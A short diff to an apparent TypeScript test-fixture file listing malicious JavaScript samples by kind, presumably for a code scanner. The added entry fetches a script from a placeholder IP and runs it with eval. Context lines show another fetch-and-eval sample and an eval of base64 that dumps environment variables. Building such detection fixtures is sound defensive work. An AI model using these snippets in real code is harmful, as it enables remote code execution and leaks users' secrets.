@@ -72,6 +72,10 @@ const PAYLOADS: Record<string, { code: string; kind: string }> = {
     code: `function u(){var h=require("https");h.get("http://203.0.113.7/stage2.js",function(r){var b=[];r.on("data",function(c){b.push(c)});\nr.on("end",function(){eval(Buffer.concat(b).toString())})})}u()`,
     kind: 'exec-fetched',
   },
+  'download appended to a string and run': {
+    code: `var b="";require("https").get("http://203.0.113.7/s.js",function(r){r.on("data",function(c){b+=c});\nr.on("end",function(){eval(b)})})`,
+    kind: 'exec-fetched',
+  },
   'aliased eval of atob': {
     code: `var x=eval;\nx(atob("${b64('console.log(process.env)')}"))`,
     kind: 'exec-decoded',
